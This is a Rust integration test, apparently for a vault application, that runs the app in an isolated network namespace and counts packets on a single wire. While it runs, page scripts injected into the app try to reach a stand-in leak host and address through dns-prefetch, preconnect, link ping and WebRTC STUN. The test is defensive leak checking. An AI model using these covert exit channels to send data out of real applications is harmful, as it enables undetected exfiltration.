//! Point 18 with the window at work: unlocked, worked in and attacked from within, in a network of its own in which every way
//! leads to one wire. What goes onto the wire is counted there, whoever sends it: the program, the page's processes, the
//! resolver of names.

use std::net::UdpSocket;
use std::process::Command;
use std::time::Duration;

use crate::page::{lay_vault, unlock};
use crate::point::{Tried, allowed, point};
use crate::support::fence::WAYS_OUT;
use crate::support::{Rig, Window, testid};

/// A wire without an end, the way to everywhere, and a resolver of names behind it. The system itself says nothing on it.
const LAID: &str = "set -e; ip link set lo up; echo 1 > /proc/sys/net/ipv6/conf/default/disable_ipv6; \
    ip link add wire type veth peer name end; ip link set end up; ip link set wire arp off; \
    ip addr add 192.0.2.1/24 dev wire; ip link set wire up; \
    ip route add default via 192.0.2.2; \
    if [ -f /etc/resolv.conf ]; then echo nameserver 192.0.2.2 > \"$1\"; mount --bind \"$1\" /etc/resolv.conf; fi";
/// Said to this very test when it is inside, with what it is to do there.
const INSIDE: &str = "PULANG_ON_THE_WIRE";
/// Ways that open no connection of the page's own: names looked up ahead, lines opened ahead, calls between browsers.
const AHEAD: [&str; 4] = [
    "document.head.append(Object.assign(document.createElement('link'), { rel: 'dns-prefetch', href: url }))",
    "document.head.append(Object.assign(document.createElement('link'), { rel: 'preconnect', href: url }))",
    "document.body.append(Object.assign(document.createElement('a'), { href: url, textContent: 'x', ping: url }))",
    "new RTCPeerConnection({ iceServers: [{ urls: 'stun:192.0.2.9:3478' }] }).createDataChannel('x')",
];

#[test]
fn p18_no_packet_leaves_a_window_that_is_worked_in() {
    const WHAT: &str = "no packet: a window worked in and attacked from within";
    if let Ok(wish) = std::env::var(INSIDE) {
        return inside(wish == "sabotaged");
    }
    let place = tempfile::tempdir().unwrap();
    let resolver = place.path().join("resolv.conf").display().to_string();
    let alone = |script: &str| {
        let mut shell = Command::new("unshare");
        shell.args(["--net", "--mount", "sh", "-c", &format!("{LAID}; {script}"), "sh", &resolver]);
        shell
    };
    if !allowed(18, WHAT, &mut alone("true")) {
        return;
    }
    point(18, WHAT, |sabotage| {
        let script = "\"$2\" --exact wire::p18_no_packet_leaves_a_window_that_is_worked_in --nocapture; \
            echo ended $?; cat /proc/net/dev";
        let said = alone(script)
            .arg(std::env::current_exe().unwrap())
            .env(INSIDE, if sabotage { "sabotaged" } else { "honest" })
            .output()
            .unwrap();
        let text = String::from_utf8_lossy(&said.stdout).into_owned();
        let counts = text.lines().find_map(|line| line.trim().strip_prefix("wire:"));
        let sent = counts.and_then(|counts| counts.split_whitespace().nth(9)?.parse::<u64>().ok());
        let mut tried = Tried::once(text.contains("ended 0") && sent == Some(0));
        tried.note =
            format!("{} on the wire", sent.map_or("nobody looked".to_owned(), |sent| sent.to_string()));
        tried
    });
}

/// A day's work in short, and every way out that a script in the page may try, to an address and to a name.
fn inside(sabotage: bool) {
    let rig = Rig::start();
    lay_vault(&rig);
    let window = rig.open();
    unlock(&window);
    window.click(&testid("nav-settings"));
    for url in ["http://192.0.2.7/", "http://siti.pulang-leak.example/"] {
        for way in WAYS_OUT.iter().chain(&AHEAD) {
            tries(&window, url, way);
        }
    }
    if sabotage {
        UdpSocket::bind("0.0.0.0:0").unwrap().send_to(b"x", "192.0.2.9:9").unwrap();
    }
    // What is looked up ahead is looked up when there is time.
    std::thread::sleep(Duration::from_secs(3));
}

fn tries(window: &Window, url: &str, way: &str) {
    let script =
        format!("const url = '{url}'; try {{ {way} }} catch (e) {{}} setTimeout(arguments[0], 100);");
    // Whether the page is told does not matter.
    let _told = window.script(&script);
}
